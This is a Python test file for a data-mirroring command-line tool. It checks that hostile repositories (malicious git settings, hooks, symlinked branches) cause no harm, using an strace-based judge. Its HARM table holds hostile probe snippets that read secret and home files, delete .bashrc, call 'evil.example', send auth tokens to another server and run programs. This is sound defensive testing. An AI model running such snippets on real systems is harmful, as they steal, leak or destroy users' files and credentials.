"""A short form of the campaign of hostile repositories; ``python -m tests.hostile`` is the whole one."""

from __future__ import annotations

import os
import random
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from dandi_mirror.cli.main import COMMANDS
from tests.hostile.repositories.campaign import Found, Hostile, campaign, chosen, environment, examine, table
from tests.hostile.repositories.catalogue import CATALOGUE, Mutation
from tests.hostile.repositories.commands import IN_CLONE, IN_MIRROR, READS_NONE
from tests.hostile.repositories.judge import Judge
from tests.hostile.repositories.stage import (
    CLONE,
    FOREIGN_TOKEN,
    MARKER,
    MIRROR,
    OWN_TOKEN,
    Stage,
    World,
    staged,
)
from tests.hostile.repositories.warm import warm
from tests.hostile.repositories.watching import watch
from tests.hostile.repositories.world import begin

pytestmark = pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
FEW = 7
"""Commands in a repository of the short form."""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with begin(tmp_path_factory.mktemp("world")) as made:
        yield made


@pytest.fixture
def stage(world: World, request: pytest.FixtureRequest) -> Iterator[Stage]:
    with staged(world, CLONE, f"judged-{random.randrange(10**9)}") as made:
        yield made


def told(found: Found) -> list[str]:
    return [f"{found.hostile}: {command}: {problem.kind}: {problem.detail}" for command, problem in found.problems]


@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_what_others_made_does_no_harm_by_some_commands(world: World, kind: str) -> None:
    seed = 7  # the same in every run of the suite; `python -m tests.hostile --seed N` looks for new ones
    fitting = [name for name, mutation in CATALOGUE.items() if kind in mutation.kinds]
    names = tuple(random.Random(seed).sample(fitting, 3))
    found = examine(world, Hostile(f"short-{seed}", kind, names), FEW)
    assert told(found) == [], f"seed {seed}"
    assert found.runs >= FEW


@pytest.mark.slow
@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_where_nothing_is_wrong_nothing_is_found_and_every_command_is_run(world: World, kind: str) -> None:
    found = examine(world, Hostile(f"honest-{kind}", kind, ()))
    assert told(found) == []
    assert found.runs > 25 and found.codes[0] >= 15


@pytest.mark.slow
def test_three_hundred_hostile_repositories_do_no_harm_by_any_command() -> None:
    found = campaign(chosen(300, 1), min(4, os.cpu_count() or 1))
    assert not any(one.problems for one in found), table(found)


@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_a_program_that_the_settings_of_a_repository_name_is_not_run(world: World, kind: str) -> None:
    commands = (["get", "-n", "."], ["upload", "-n"]) if kind == CLONE else (["sync"], ["status"])
    with staged(world, kind, f"fsmonitor-{kind}") as stage:
        for name in ("git config: core.fsmonitor", "hooks: all of them"):
            CATALOGUE[name].change(stage)
        judge = Judge(stage)
        judge.begin()
        for command in commands:
            seen = watch(command, stage.top, environment(stage))
            assert list(judge.problems(seen)) == [], command


def test_a_branch_that_is_a_link_to_a_secret_is_not_read_and_the_secret_is_not_printed(world: World) -> None:
    with staged(world, CLONE, "branch-link") as stage:
        CATALOGUE["ref: the branch is a link"].change(stage)
        judge = Judge(stage)
        judge.begin()
        seen = watch(["ls", "."], stage.top, environment(stage))
        found = {problem.kind for problem in judge.problems(seen)}
    assert not found & {"a secret was printed", "a file elsewhere was opened"}


def test_the_same_seed_makes_the_same_repositories_and_each_kind_of_harm_stands_alone_in_enough_of_them() -> None:
    assert chosen(300, 1) == chosen(300, 1) != chosen(300, 2)
    everything = chosen(1000, 1)
    alone = {(one.kind, one.mutations[0]) for one in everything if len(one.mutations) == 1}
    assert alone == {(kind, each.name) for each in CATALOGUE.values() for kind in each.kinds}
    assert len(CATALOGUE) >= 300 and len({one.seed for one in everything}) == 1000


def test_every_kind_of_harm_can_be_done(world: World) -> None:
    """A mutation that fails by itself would be a repository with which nothing is wrong."""
    for kind in (CLONE, MIRROR):
        for name in random.sample([name for name, each in CATALOGUE.items() if kind in each.kinds], 6):
            with staged(world, kind, f"made-{random.randrange(10**9)}") as made:
                CATALOGUE[name].change(made)


@pytest.mark.quick
def test_every_command_that_reads_a_clone_or_a_mirror_is_tried_in_both() -> None:
    for texts in (IN_CLONE, IN_MIRROR):
        tried = {text.split()[0] for text in texts} - {"complete"}
        assert set(COMMANDS) - tried <= READS_NONE | ({"catalogue", "create"} if texts is IN_CLONE else set())
        assert any(text.startswith("complete ") for text in texts)


def test_a_fork_of_the_loaded_program_does_what_a_process_of_its_own_does_and_is_watched_alike(
    world: World, tmp_path: Path
) -> None:
    secret = "{}/files/secret.txt"
    for command in (["ls", "."], ["which", secret], ["download", ".", "-o", "{}/empty"], ["cite", "000123"], ["oops"]):
        found = []
        for way in ("fresh", "warm"):
            with staged(world, CLONE, f"{way}-{command[0]}") as stage, warm(tmp_path, stage.environment) as program:
                words = [word.format(stage.victim) for word in command]
                judge = Judge(stage)
                judge.begin()
                seen = (program.watch if way == "warm" else watch)(words, stage.top, environment(stage))
                # how often a file is opened depends on which thread is the first
                problems = {problem.kind for problem in judge.problems(seen)}
                said = [text.replace(f"case-{way}-", "case-") for text in (seen.output, seen.errors)]
                found.append((seen.code, said, problems, bool(seen.opened)))
        assert found[0] == found[1], command


def test_the_campaign_goes_on_after_a_repository_that_cannot_be_made(monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(_: Stage) -> None:
        raise AttributeError("'int' object has no attribute 'update'")

    broken = Mutation("broken", (CLONE,), fail)
    monkeypatch.setitem(CATALOGUE, "broken", broken)
    alone, together = Hostile("alone", CLONE, ("broken",)), Hostile("together", CLONE, ("broken", "records: empty"))
    found = campaign([alone, together], 1, 1)
    assert [problem.kind for _, problem in found[0].problems] == ["the campaign itself failed"]
    assert (found[1].problems, found[1].runs > 0) == ([], True), "what one has made may be in the way of another"
    assert "the campaign itself failed" in table(found)


HARM: dict[str, tuple[str, Callable[[Stage], str]]] = {
    "reads": ("a file elsewhere was opened", lambda stage: f"open({str(stage.victim / 'files/secret.txt')!r})"),
    "reads a home": ("a file of the home was opened", lambda stage: f"open({str(stage.home / '.bashrc')!r}).read()"),
    "reads by a link": ("a file elsewhere was opened", lambda stage: (
        f"os.symlink({str(stage.victim)!r}, 'way'); open('way/files/secret.txt')")),
    "reads a device": ("a device was opened", lambda stage: "open('/dev/zero').read(1)"),
    "writes": ("a file elsewhere was changed", lambda stage: f"open({str(stage.victim / 'new')!r}, 'w')"),
    "writes where nobody looks": (
        "a file elsewhere was opened to write", lambda stage: "open('/var/tmp/x-dandi', 'w')"),
    "touches": ("a file elsewhere was changed", lambda stage: f"os.utime({str(stage.home / '.bashrc')!r})"),
    "removes": ("a file elsewhere was changed", lambda stage: f"os.unlink({str(stage.home / '.bashrc')!r})"),
    "copies": ("a secret was copied", lambda stage: f"open({str(stage.out / 'x')!r}, 'w').write({MARKER!r})"),
    "shows": ("a secret was printed", lambda stage: f"print({MARKER!r})"),
    "asks another port": ("another port was asked", lambda stage: f"urlopen({stage.world.listener.origin + '/x'!r})"),
    "asks another host": ("another host was asked", lambda stage: "urlopen('http://evil.example/x')"),
    "calls another address": ("another address was called", lambda stage: "socket.create_connection(('127.0.0.1', 9))"),
    "sends the key elsewhere": ("a token left", lambda stage: (
        f"urlopen(Request({stage.world.listener.origin + '/x'!r}, headers={{'Authorization': {OWN_TOKEN!r}}}))")),
    "sends DANDI's key to this archive": ("a token left", lambda stage: (
        f"urlopen(Request({stage.world.server.api_url + '/info/'!r}, headers={{'X': {FOREIGN_TOKEN!r}}}))")),
    "prints the key": ("a token left", lambda stage: f"print({FOREIGN_TOKEN!r})"),
    "runs a program": ("a program of the repository was run", lambda stage: f"os.system({stage.tool!r})"),
    "fails": ("exit code 1", lambda stage: "raise SystemExit(1)"),
    "fails, and says why": ("git does not read it", lambda stage: "raise SystemExit('git ended')"),
    "fails in its own words": ("a traceback", lambda stage: "raise ValueError('x')"),
    "prints what turns text around": ("a control character was printed", lambda stage: "print(chr(0x202e))"),
    "takes memory": ("it took too much memory", lambda stage: "bytearray(400 << 20)"),
}  # fmt: skip
PROGRAM = "import os, socket, sys\nfrom urllib.request import Request, urlopen\ntry:\n    {}\nexcept OSError: pass"


@pytest.mark.parametrize("harm", HARM)
def test_the_judge_sees_a_program_that(stage: Stage, harm: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tests.hostile.repositories.judge.MEMORY", 300 << 20)
    kind, program = HARM[harm]
    judge = Judge(stage)
    judge.begin()
    seen = watch(["-c", PROGRAM.format(program(stage))], stage.top, environment(stage), (sys.executable,))
    assert kind in {problem.kind for problem in judge.problems(seen)}
    Path("/var/tmp/x-dandi").unlink(missing_ok=True)


def test_the_judge_ends_a_program_that_does_not_end_and_all_that_it_started(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tests.hostile.repositories.watching.SECONDS", 1)
    judge = Judge(stage)
    judge.begin()
    program = "import subprocess\nsubprocess.run(['sleep', '77777'])"
    seen = watch(["-c", program], stage.top, environment(stage), (sys.executable,))
    assert "it did not end in time" in {problem.kind for problem in judge.problems(seen)}


def test_an_honest_command_is_not_accused(stage: Stage) -> None:
    judge = Judge(stage)
    judge.begin()
    seen = watch(["ls", "."], stage.top, environment(stage))
    assert list(judge.problems(seen)) == [] and seen.code == 0 and "sub-0" in seen.output
